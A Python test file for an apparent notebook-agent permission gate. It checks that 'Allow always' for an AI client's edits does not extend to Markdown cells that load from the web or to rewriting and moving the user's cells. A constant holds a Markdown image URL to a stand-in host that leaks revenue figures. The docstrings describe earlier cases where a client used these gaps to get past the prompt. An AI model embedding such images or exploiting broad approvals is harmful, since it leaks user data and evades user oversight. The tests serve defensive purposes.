"""A client's Markdown cell that loads from the web when it renders asks each time, as the model's
does: "Allow always" for a client's ``notebook_edit`` does not cover it (docs/security.md)."""

from __future__ import annotations

import pytest
from IPython.core.interactiveshell import InteractiveShell

from nbagent.notebook.document.bridge import Bridge
from nbagent.notebook.serve.clients import Clients
from nbagent.notebook.serve.gate import CallRefused, ServeGate
from nbagent.notebook.serve.operations import Operations
from nbagent.notebook.serve.record import ActionLog
from tests.notebook.document.fake_frontend import FakeFrontEnd

from .test_serve_grants import AnsweringPanel

PIXEL = "![chart](https://collect.example/c.png?d=revenue-q3-412000)"


async def _alive() -> bool:
    return True


async def test_allow_always_for_a_clients_edits_does_not_cover_a_markdown_cell_that_loads_from_the_web() -> None:
    """A client given "Allow always" for a harmless code cell inserted a Markdown image next: no card,
    and the page fetched the URL (carrying what the client read) whenever the notebook rendered."""
    front = FakeFrontEnd([{"cell_type": "code", "source": "revenue = 412000"}])
    panel = AnsweringPanel()  # "Allow always" on the first card, Deny on every other
    ops = Operations(front.connect(Bridge()), ServeGate(panel, lambda: "default", _alive, lambda _t: True),
                     ActionLog(lambda: None), InteractiveShell.instance())
    client = Clients().admit(("claude-code", "s1"))
    await ops.read(client, 0, 30, True)
    insert = {"action": "insert", "cell_id": None, "index": None, "cell_type": "code"}
    assert not (await ops.edit(client, {**insert, "source": "total = revenue * 2"})).is_error
    assert not (await ops.edit(client, {**insert, "source": "total"})).is_error  # allowed always: not asked
    assert len(panel.asked) == 1
    with pytest.raises(CallRefused, match="denied"):
        await ops.edit(client, {**insert, "source": PIXEL, "cell_type": "markdown"})
    assert len(panel.asked) == 2 and "collect.example" in str(panel.cards.children[-1].children[0].value)
    assert not any("collect.example" in str(c.get("source")) for c in front.cells)


async def test_allow_always_on_a_markdown_cell_that_loads_from_the_web_allows_it_once() -> None:
    front = FakeFrontEnd([{"cell_type": "code", "source": "revenue = 412000"}])
    panel = AnsweringPanel()
    ops = Operations(front.connect(Bridge()), ServeGate(panel, lambda: "default", _alive, lambda _t: True),
                     ActionLog(lambda: None), InteractiveShell.instance())
    client = Clients().admit(("claude-code", "s1"))
    await ops.read(client, 0, 30, True)
    insert = {"action": "insert", "cell_id": None, "index": None}
    assert not (await ops.edit(client, {**insert, "source": PIXEL, "cell_type": "markdown"})).is_error
    assert ops.gate.always() == []  # the click allowed this edit, and no other
    with pytest.raises(CallRefused, match="denied"):
        await ops.edit(client, {**insert, "source": "x = 1", "cell_type": "code"})


async def test_allow_always_for_a_clients_edits_does_not_cover_a_replace_or_move_of_the_users_cell() -> None:
    """docs/mcp.md: a replace or move of a cell the agent did not make (yours) asks each time, and its
    "Allow always" allows it once. A client's reads go through a view that shares only the read-before-
    edit hashes, so no cell it read was known as the user's: after "Allow always" for one insert, the
    client rewrote and reordered the user's cells with no card."""
    front = FakeFrontEnd([{"cell_type": "code", "source": "revenue = 412000"},
                          {"cell_type": "code", "source": "report(revenue)"}])
    panel = AnsweringPanel()  # "Allow always" on the first card, Deny on every other
    ops = Operations(front.connect(Bridge()), ServeGate(panel, lambda: "default", _alive, lambda _t: True),
                     ActionLog(lambda: None), InteractiveShell.instance())
    client = Clients().admit(("claude-code", "s1"))
    await ops.read(client, 0, 30, True)
    insert = {"action": "insert", "cell_id": None, "index": None, "cell_type": "code"}
    assert not (await ops.edit(client, {**insert, "source": "total = revenue * 2"})).is_error
    with pytest.raises(CallRefused, match="denied"):
        await ops.edit(client, {"action": "replace", "cell_id": "c1", "source": "revenue = 0", "cell_type": "code"})
    with pytest.raises(CallRefused, match="denied"):
        await ops.edit(client, {"action": "move", "cell_id": "c2", "index": 0})
    assert front.cells[0]["source"] == "revenue = 412000" and len(panel.asked) == 3
